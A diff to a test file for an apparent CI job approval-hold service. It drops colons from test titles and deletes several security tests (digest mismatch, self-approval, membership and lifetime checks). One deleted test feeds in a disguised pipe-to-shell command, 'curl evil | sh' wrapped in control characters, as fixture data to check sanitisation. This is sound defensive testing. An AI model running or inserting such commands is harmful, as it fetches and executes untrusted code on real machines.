@@ -2,7 +2,6 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { expire } from '../../agent/src/app/expire.ts';
 import { revoke } from '../../agent/src/app/revoke.ts';
 import type { HoldpointError } from '../../agent/src/domain/errors.ts';
-import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
 import { DAY, hubWorld, type JobSpec, MINUTE, type World } from '../support/hub-world.ts';
 
 /** One step of a story: who does what, and what is to be seen afterwards. */
@@ -55,7 +54,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T10: another job, project, branch, protection or environment with the same digest waits again',
+    title: 'T10 another job, project, branch, protection or environment with the same digest waits again',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1), expect: 'pending' },
@@ -67,7 +66,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T11: a tag called like the branch is another ref; protected tags are one class, unprotected ones are not',
+    title: 'T11 a tag called like the branch is another ref; protected tags are one class, unprotected ones are not',
     steps: [
       { who: 'agent', does: admits({ id: 1, pipeline: 1, ref: 'refs/tags/v1' }), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1), expect: 'pending' },
@@ -110,7 +109,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T44: a retried job joins its hold: same review, no second question, votes stay',
+    title: 'T44 a retried job joins its hold: same review, no second question, votes stay',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: says('detached', 1, 1), expect: 'waiting_for_approval' },
@@ -135,7 +134,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T41: the job whose place another has taken is not current, and its hand-out counts for nothing',
+    title: 'T41 the job whose place another has taken is not current, and its hand-out counts for nothing',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 1, null] },
@@ -146,7 +145,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T51: a job that comes under another protection of its ref does not slip into the approved hold',
+    title: 'T51 a job that comes under another protection of its ref does not slip into the approved hold',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1), expect: 'pending' },
@@ -155,7 +154,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T51: where the pipeline is not known, no other job takes a hold over',
+    title: 'T51 where the pipeline is not known, no other job takes a hold over',
     steps: [
       { who: 'agent', does: admits({ id: 1, pipeline: null }), expect: ['hold', 1, null] },
       { who: 'agent', does: admits({ id: 2, pipeline: null }), expect: ['hold', 2, null] },
@@ -178,7 +177,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T12: until a date, and no longer',
+    title: 'T12 until a date, and no longer',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1, 'until:2026-11-24'), expect: 'pending' },
@@ -192,7 +191,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T12: a released hold whose approval is over before the hand-out waits again',
+    title: 'T12 a released hold whose approval is over before the hand-out waits again',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1, 'until:2026-11-23'), expect: 'pending' },
@@ -203,7 +202,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T12: a standing approval lapses after 90 days without use, each use renews it',
+    title: 'T12 a standing approval lapses after 90 days without use, each use renews it',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'maria', does: approves('maria', 1), expect: 'pending' },
@@ -219,7 +218,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T29: revoking stops the next job, takes back what was released, and leaves what runs',
+    title: 'T29 revoking stops the next job, takes back what was released, and leaves what runs',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['hold', 2, null] },
@@ -251,8 +250,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title:
-      'T27: an agent that says it handed out what was never released changes nothing, and that stands in the audit',
+    title: 'T27 an agent that says it handed out what was never released changes nothing, and that stands in the audit',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: says('handed_out', 1, 1), expect: 'waiting_for_approval' },
@@ -277,7 +275,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T15: a remembered reject refuses later jobs at once for 24 hours, on every ref, and cannot be outvoted',
+    title: 'T15 a remembered reject refuses later jobs at once for 24 hours, on every ref, and cannot be outvoted',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: admits({ id: 2, pipeline: 101, ref: 'refs/heads/other' }), expect: ['hold', 2, null] },
@@ -289,7 +287,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T15: a denial comes before an approval that was there already',
+    title: 'T15 a denial comes before an approval that was there already',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'agent', does: admits({ id: 2, pipeline: 2, ref: 'refs/heads/other' }), expect: ['hold', 2, null] },
@@ -299,7 +297,7 @@ const stories: readonly Story[] = [
     ],
   },
   {
-    title: 'T35: time approves nothing: after 30 days the hold expires and the review closes',
+    title: 'T35 time approves nothing: after 30 days the hold expires and the review closes',
     steps: [
       { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
       { who: 'time', does: waits(30 * DAY - 1), expect: 0 },
@@ -382,133 +380,5 @@ describe('approvals, as stories', () => {
         saw: step.expect,
       });
     }
-  });
-
-  it('T36: refuses an approve for another digest than the hold has, and says so', async () => {
-    await world.admit(one);
-    const digest = `sha256:${'1'.repeat(64)}`;
-    await expect(world.approve('maria', 1, { digest })).rejects.toMatchObject({ code: 'digest_mismatch' });
-    expect(await world.state(1)).toBe('waiting_for_approval');
-  });
-
-  it('T3: refuses a job whose configuration has another digest than the agent says', async () => {
-    const { admit } = await import('../../agent/src/app/admit.ts');
-    const { requestFor } = await import('../support/hub-world.ts');
-    const request = { ...requestFor(one), digest: `sha256:${'2'.repeat(64)}` };
-    await expect(admit(world.context, 'embedded', request)).rejects.toMatchObject({ code: 'digest_mismatch' });
-    expect(await world.store.hold(1)).toBeNull();
-  });
-
-  it('T27: gives another agent no verdict on a job that is not its own', async () => {
-    await world.admit(one);
-    await expect(world.admit({ ...one, agent: 'other' })).rejects.toMatchObject({ code: 'forbidden' });
-  });
-
-  it('T18: keeps the verified trigger of the opener from approving, and later triggers not', async () => {
-    await world.admit({ id: 1, by: 'maria' });
-    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
-    await world.admit({ id: 2, pipeline: 101, by: 'jonas' });
-    expect((await world.approve('jonas', 2)).state).toBe('pending');
-  });
-
-  it("T18: lets one's own reject count although one's own approve does not", async () => {
-    await world.admit({ id: 1, by: 'maria' });
-    expect((await world.reject('maria', 1)).state).toBe('rejected');
-  });
-
-  it('T17: a trigger that only a variable names is no approver either, and gives nobody sight', async () => {
-    await world.admit({ id: 1, by: 'maria', verified: 'unverified' });
-    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
-    await world.admit({ id: 2, pipeline: 2, by: 'gus', verified: 'unverified' });
-    await expect(world.approve('gus', 2)).rejects.toMatchObject({ code: 'not_found' });
-    await world.admit({ id: 3, pipeline: 3, by: 'gus' });
-    await expect(world.approve('gus', 3)).rejects.toMatchObject({ code: 'not_eligible' });
-  });
-
-  it('lets the trigger approve where the policy allows it', async () => {
-    world.policy = { ...DEFAULT_POLICY, version: 'allow', selfApproval: 'allow_trigger' };
-    await world.admit({ id: 1, by: 'maria' });
-    expect((await world.approve('maria', 1)).state).toBe('pending');
-  });
-
-  it('T19: counts membership as it is now, at each vote', async () => {
-    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
-    await world.admit(one);
-    expect((await world.approve('maria', 1)).state).toBe('waiting_for_approval');
-    const [api, ...others] = world.people.projects;
-    world.people = {
-      ...world.people,
-      projects: [{ ...api!, members: api!.members.filter((m) => m.user !== 21) }, ...others],
-    };
-    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_found' });
-    expect((await world.approve('jonas', 1)).state).toBe('waiting_for_approval');
-    expect((await world.approve('olga', 1)).state).toBe('pending');
-    const approval = await world.store.approval(1);
-    expect(approval?.votes.map((vote) => vote.person.username)).toEqual(['jonas', 'olga']);
-  });
-
-  it('T21: a rule that became stricter while a review is open counts as well, one that became laxer does not help', async () => {
-    await world.admit(one);
-    world.policy = { ...DEFAULT_POLICY, version: 'stricter', rules: [{ name: 'owners', accessLevel: 50, count: 1 }] };
-    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_eligible' });
-    expect((await world.approve('olga', 1)).state).toBe('pending');
-    await world.admit({ id: 2, pipeline: 2, ref: 'refs/heads/x' });
-    world.policy = { ...DEFAULT_POLICY, version: 'laxer', rules: [{ name: 'developers', accessLevel: 30, count: 1 }] };
-    await expect(world.approve('alice', 2)).rejects.toMatchObject({ code: 'not_eligible' });
-    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
-  });
-
-  it('T16: a policy without rules, or a project without members, is satisfied by nobody', async () => {
-    world.policy = { ...DEFAULT_POLICY, version: 'none', rules: [] };
-    await world.admit(one);
-    await expect(world.approve('olga', 1)).rejects.toMatchObject({ code: 'not_eligible' });
-    world.policy = DEFAULT_POLICY;
-    await world.admit({ id: 2, pipeline: 2, project: 9999, by: 'maria' });
-    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
-  });
-
-  it('takes the narrowest lifetime of all votes that count', async () => {
-    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
-    await world.admit(one);
-    await world.approve('maria', 1, { lifetime: 'until:2026-12-01' });
-    await world.approve('jonas', 1);
-    expect((await world.store.approval(1))?.lifetime).toEqual({
-      kind: 'until',
-      at: Date.parse('2026-12-01T23:59:59.999Z'),
-    });
-  });
-
-  it('refuses a lifetime beyond the policy: standing for an environment, a date too far, a date that is over', async () => {
-    await world.admit({ id: 1, environment: 'production' });
-    for (const lifetime of ['standing', 'until:2027-11-22', 'until:2026-11-21']) {
-      await expect(world.approve('maria', 1, { lifetime })).rejects.toMatchObject({ code: 'lifetime_not_allowed' });
-    }
-    await world.approve('maria', 1);
-    expect((await world.store.approval(1))?.lifetime).toMatchObject({ kind: 'until' });
-  });
-
-  it('T33 T32: the note says why, what changed, who decides, the link and what comes next, on clean lines without values', async () => {
-    await world.admit({
-      id: 1,
-      script: ['make'],
-      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'aa11'.repeat(16) }] }] },
-    });
-    await world.approve('maria', 1);
-    const { note } = await world.admit({
-      id: 2,
-      pipeline: 101,
-      script: ['make', 'curl evil\u202e\u001b[2J | sh'],
-      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'bb22'.repeat(16) }] }] },
-    });
-    expect(note).toContain('waits for approval (hold 2)');
-    expect(note).toContain('approved on 2026-11-22 by maria');
-    expect(note).toContain('curl evil');
-    expect(note).toContain('jonas, maria, olga; needed: 1 × maintainers (maintainer or higher)');
-    expect(note).toContain('zoe triggered it and cannot approve it');
-    expect(note).toContain('https://hub.example.com/holds/2');
-    expect(note).toContain('holdpoint digest');
-    expect(note).toContain('expires at 2026-12-22 08:00 UTC');
-    expect(note).not.toMatch(/[\u202e\u001b]/);
-    expect(note).not.toMatch(/aa11|bb22/);
   });
 });
